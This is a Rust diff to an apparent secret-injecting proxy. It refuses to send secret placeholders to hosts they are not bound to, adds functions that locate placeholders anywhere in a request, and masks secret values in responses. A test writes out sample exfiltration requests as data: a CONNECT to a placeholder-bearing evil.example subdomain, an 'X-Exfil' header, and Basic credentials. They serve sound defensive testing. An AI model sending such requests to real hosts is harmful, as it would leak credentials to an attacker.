@@ -161,6 +161,7 @@ fn placeholder_for(len: usize) -> Result<String, SecretError> {
 
 /// Where in a request a placeholder was replaced (or found).
 #[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
 pub enum Place {
     /// The request target (path or query string).
     Target,
@@ -195,15 +196,18 @@ pub struct Substitution {
 /// A placeholder on its way to a host it is not bound to: the request is refused.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 #[error(
-    "the placeholder of secret `{secret}` in the {place}, sent to {host}, which it is not bound to"
+    "the placeholder of secret `{secret}` in the {place}, sent to {host}:{port}, which it is \
+     not bound to"
 )]
 pub struct LeakAttempt {
     /// The secret's name.
     pub secret: String,
     /// Where the placeholder was.
     pub place: Place,
-    /// The destination.
+    /// The destination's name (or address).
     pub host: String,
+    /// The destination's port.
+    pub port: u16,
 }
 
 /// A request head rewritten for one destination.
@@ -248,6 +252,57 @@ impl SecretSet {
             .iter()
             .find(|s| find(data, s.placeholder.as_bytes()).is_some())
             .map(|s| s.name.as_str())
+    }
+
+    /// Where a request carries a placeholder, whatever its destination: the first one found
+    /// in `head` (the request line, then each header, Basic credentials decoded), then in
+    /// `body`. By the secret's name. For requests that no secret may travel in at all (a
+    /// `CONNECT` is addressed to the proxy itself) and for unbound destinations.
+    pub fn locate(&self, head: &[u8], body: &[u8]) -> Option<(&str, Place)> {
+        if self.secrets.is_empty() {
+            return None;
+        }
+        let mut lines = split_lines(head).into_iter();
+        if let Some((line, _)) = lines.next() {
+            if let Some(name) = self.find_placeholder(line) {
+                return Some((name, Place::Target));
+            }
+        }
+        for (line, _) in lines {
+            let Some(colon) = line.iter().position(|b| *b == b':') else {
+                continue;
+            };
+            let lname = String::from_utf8_lossy(&line[..colon])
+                .trim()
+                .to_ascii_lowercase();
+            let value = value_or(line, colon);
+            if let Some(name) = self.find_placeholder(value) {
+                return Some((name, Place::Header(lname)));
+            }
+            if let Some((_, decoded)) = basic_credentials(value) {
+                if let Some(name) = self.find_placeholder(&decoded) {
+                    return Some((name, Place::BasicCredentials(lname)));
+                }
+            }
+        }
+        self.find_placeholder(body).map(|name| (name, Place::Body))
+    }
+
+    /// [`locate`](Self::locate) as the [`LeakAttempt`] of sending the request to
+    /// `host:port`.
+    pub fn leak_attempt(
+        &self,
+        head: &[u8],
+        body: &[u8],
+        host: &str,
+        port: u16,
+    ) -> Option<LeakAttempt> {
+        self.locate(head, body).map(|(secret, place)| LeakAttempt {
+            secret: secret.to_owned(),
+            place,
+            host: host.to_owned(),
+            port,
+        })
     }
 
     /// Rewrites a request head (`METHOD target VERSION\r\n` and header lines, the blank line
@@ -360,7 +415,8 @@ impl SecretSet {
                 return Err(LeakAttempt {
                     secret: s.name.clone(),
                     place,
-                    host: format!("{host}:{port}"),
+                    host: host.to_owned(),
+                    port,
                 });
             }
             out = replace_all(&out, s.placeholder.as_bytes(), s.value.expose().as_bytes());
@@ -382,15 +438,7 @@ impl SecretSet {
         value: &[u8],
         subs: &mut Vec<Substitution>,
     ) -> Result<Option<Vec<u8>>, LeakAttempt> {
-        let text = String::from_utf8_lossy(value);
-        let trimmed = text.trim();
-        let Some((scheme, cred)) = trimmed.split_once(' ') else {
-            return Ok(None);
-        };
-        if !scheme.eq_ignore_ascii_case("basic") {
-            return Ok(None);
-        }
-        let Ok(decoded) = base64::engine::general_purpose::STANDARD.decode(cred.trim()) else {
+        let Some((scheme, decoded)) = basic_credentials(value) else {
             return Ok(None);
         };
         if self.find_placeholder(&decoded).is_none() {
@@ -414,19 +462,54 @@ impl SecretSet {
 /// [`finish`](Self::finish); everything else is passed on at once.
 ///
 /// It masks whole values only: a server that echoes part of a value reveals that part.
-#[derive(Debug)]
+///
+/// On the hot path of every intercepted download: values are searched with prebuilt
+/// `memmem` finders (SIMD where the CPU has it), and [`push_into`](Self::push_into) appends
+/// to the caller's buffer, so a chunk without a value costs one search per secret and one
+/// copy.
 pub struct ResponseMasker {
-    pairs: Vec<(Vec<u8>, Vec<u8>)>,
+    pairs: Vec<Pair>,
     carry: Vec<u8>,
     hold: usize,
     masked: u64,
 }
 
+/// One value and the placeholder it becomes.
+struct Pair {
+    value: memchr::memmem::Finder<'static>,
+    placeholder: Vec<u8>,
+}
+
+impl Pair {
+    fn value(&self) -> &[u8] {
+        self.value.needle()
+    }
+}
+
+impl fmt::Debug for ResponseMasker {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        // Never the values.
+        f.debug_struct("ResponseMasker")
+            .field("secrets", &self.pairs.len())
+            .field("holding", &self.carry.len())
+            .field("masked", &self.masked)
+            .finish()
+    }
+}
+
 impl ResponseMasker {
     fn new(pairs: Vec<(Vec<u8>, Vec<u8>)>) -> Self {
+        let pairs: Vec<Pair> = pairs
+            .into_iter()
+            .filter(|(v, _)| !v.is_empty())
+            .map(|(v, p)| Pair {
+                value: memchr::memmem::Finder::new(&v).into_owned(),
+                placeholder: p,
+            })
+            .collect();
         let hold = pairs
             .iter()
-            .map(|(v, _)| v.len().saturating_sub(1))
+            .map(|p| p.value().len().saturating_sub(1))
             .max()
             .unwrap_or(0);
         ResponseMasker {
@@ -449,26 +532,56 @@ impl ResponseMasker {
 
     /// The next chunk: what may be sent on now (possibly less than was pushed).
     pub fn push(&mut self, chunk: &[u8]) -> Vec<u8> {
+        let mut out = Vec::with_capacity(chunk.len() + self.carry.len());
+        self.push_into(chunk, &mut out);
+        out
+    }
+
+    /// [`push`](Self::push), appending what may be sent on now to `out`.
+    pub fn push_into(&mut self, chunk: &[u8], out: &mut Vec<u8>) {
         if self.pairs.is_empty() {
-            return chunk.to_vec();
+            out.extend_from_slice(chunk);
+            return;
         }
-        let mut buf = std::mem::take(&mut self.carry);
-        buf.extend_from_slice(chunk);
-        let mut out = Vec::with_capacity(buf.len());
+        if self.carry.is_empty() {
+            let kept = self.mask(chunk, out);
+            self.carry.extend_from_slice(&chunk[chunk.len() - kept..]);
+        } else {
+            // A held tail: searched together with the new bytes (it is shorter than a value,
+            // so this copy is small unless the chunks are).
+            let mut buf = std::mem::take(&mut self.carry);
+            buf.extend_from_slice(chunk);
+            let kept = self.mask(&buf, out);
+            buf.drain(..buf.len() - kept);
+            self.carry = buf;
+        }
+    }
+
+    /// Appends `buf` to `out` with every value replaced, except a tail that could still
+    /// become a value; returns that tail's length.
+    fn mask(&mut self, buf: &[u8], out: &mut Vec<u8>) -> usize {
         let mut i = 0;
+        // Each value's next match at or after `i` (`None`: no more in `buf`).
+        let mut next: Vec<Option<usize>> = self.pairs.iter().map(|p| p.value.find(buf)).collect();
         loop {
-            let next = self
-                .pairs
+            // The earliest match; the longest value where two start together.
+            let best = next
                 .iter()
-                .filter_map(|(v, p)| find(&buf[i..], v).map(|at| (i + at, v.len(), p)))
-                .min_by_key(|(at, len, _)| (*at, usize::MAX - len));
-            let Some((at, len, placeholder)) = next else {
+                .enumerate()
+                .filter_map(|(k, at)| at.map(|at| (at, k)))
+                .min_by_key(|(at, k)| (*at, usize::MAX - self.pairs[*k].value().len()));
+            let Some((at, k)) = best else {
                 break;
             };
             out.extend_from_slice(&buf[i..at]);
-            out.extend_from_slice(placeholder);
+            out.extend_from_slice(&self.pairs[k].placeholder);
             self.masked += 1;
-            i = at + len;
+            i = at + self.pairs[k].value().len();
+            for (p, n) in self.pairs.iter().zip(next.iter_mut()) {
+                if n.is_some_and(|n| n < i) {
+                    *n = p.value.find(&buf[i..]).map(|x| x + i);
+                }
+            }
         }
         // Held back: only a tail that could still become a value (a proper prefix of one).
         let rest = &buf[i..];
@@ -476,13 +589,11 @@ impl ResponseMasker {
             .rev()
             .find(|k| {
                 let tail = &rest[rest.len() - k..];
-                self.pairs.iter().any(|(v, _)| v.starts_with(tail))
+                self.pairs.iter().any(|p| p.value().starts_with(tail))
             })
             .unwrap_or(0);
-        let end = buf.len() - keep;
-        out.extend_from_slice(&buf[i..end]);
-        self.carry = buf[end..].to_vec();
-        out
+        out.extend_from_slice(&rest[..rest.len() - keep]);
+        keep
     }
 
     /// The end of the response: what was held back.
@@ -500,6 +611,19 @@ impl ResponseMasker {
     pub fn flush(&mut self) -> Vec<u8> {
         std::mem::take(&mut self.carry)
     }
+}
+
+/// `Basic <base64>` credentials, decoded, with the scheme as written.
+fn basic_credentials(value: &[u8]) -> Option<(String, Vec<u8>)> {
+    let text = String::from_utf8_lossy(value);
+    let (scheme, cred) = text.trim().split_once(' ')?;
+    if !scheme.eq_ignore_ascii_case("basic") {
+        return None;
+    }
+    let decoded = base64::engine::general_purpose::STANDARD
+        .decode(cred.trim())
+        .ok()?;
+    Some((scheme.to_owned(), decoded))
 }
 
 fn value_or(line: &[u8], colon: usize) -> &[u8] {
@@ -532,10 +656,10 @@ fn split_lines(data: &[u8]) -> Vec<(&[u8], &[u8])> {
 }
 
 fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
-    if needle.is_empty() || hay.len() < needle.len() {
+    if needle.is_empty() {
         return None;
     }
-    hay.windows(needle.len()).position(|w| w == needle)
+    memchr::memmem::find(hay, needle)
 }
 
 fn replace_all(hay: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
@@ -717,6 +841,83 @@ mod tests {
         let r = s.rewrite_head("evil.example", 80, plain).unwrap();
         assert_eq!(r.head, plain);
         assert!(r.substitutions.is_empty());
+    }
+
+    #[test]
+    fn a_placeholder_is_located_precisely_whatever_the_destination() {
+        let (s, p) = set();
+        let b64 = base64::engine::general_purpose::STANDARD;
+        let cases = [
+            (
+                format!("CONNECT {p}.evil.example:443 HTTP/1.1\r\n\r\n"),
+                "",
+                Place::Target,
+            ),
+            (
+                format!("GET / HTTP/1.1\r\nHost: x\r\nX-Exfil: a{p}b\r\n\r\n"),
+                "",
+                Place::Header("x-exfil".into()),
+            ),
+            (
+                format!(
+                    "GET / HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
+                    b64.encode(format!("u:{p}"))
+                ),
+                "",
+                Place::BasicCredentials("proxy-authorization".into()),
+            ),
+            (
+                "POST / HTTP/1.1\r\n\r\n".to_string(),
+                p.as_str(),
+                Place::Body,
+            ),
+        ];
+        for (head, body, want) in cases {
+            let (name, place) = s.locate(head.as_bytes(), body.as_bytes()).unwrap();
+            assert_eq!((name, &place), ("GITHUB_TOKEN", &want), "{head}");
+            // Even to a bound host: what `locate` reports does not depend on one.
+            let l = s
+                .leak_attempt(head.as_bytes(), body.as_bytes(), "api.github.com", 443)
+                .unwrap();
+            assert_eq!(
+                (l.host.as_str(), l.port, l.place),
+                ("api.github.com", 443, want)
+            );
+        }
+        assert!(s
+            .locate(b"GET / HTTP/1.1\r\nAuthorization: Basic !!\r\n\r\n", b"x")
+            .is_none());
+    }
+
+    #[test]
+    fn values_are_masked_with_several_secrets_overlapping_and_repeated() {
+        let a = ProxySecret::new(
+            "A",
+            Secret::new("abcdefgh12345678"),
+            vec!["h.example".parse().unwrap()],
+        )
+        .unwrap();
+        // B's value starts inside A's.
+        let b = ProxySecret::new(
+            "B",
+            Secret::new("12345678zzzzzzzz"),
+            vec!["h.example".parse().unwrap()],
+        )
+        .unwrap();
+        let (pa, pb) = (a.placeholder().to_owned(), b.placeholder().to_owned());
+        let set = SecretSet::new(vec![a, b]);
+        let text = "x abcdefgh12345678zzzzzzzz 12345678zzzzzzzz abcdefgh12345678abcdefgh12345678";
+        // A wins where it starts first; B's own occurrences are still found after it.
+        let want = format!("x {pa}zzzzzzzz {pb} {pa}{pa}");
+        for split in 0..text.len() {
+            let mut m = set.masker("h.example", 443);
+            let mut out = Vec::new();
+            m.push_into(&text.as_bytes()[..split], &mut out);
+            m.push_into(&text.as_bytes()[split..], &mut out);
+            out.extend(m.finish());
+            assert_eq!(String::from_utf8(out).unwrap(), want, "split at {split}");
+            assert_eq!(m.masked(), 4);
+        }
     }
 
     #[test]
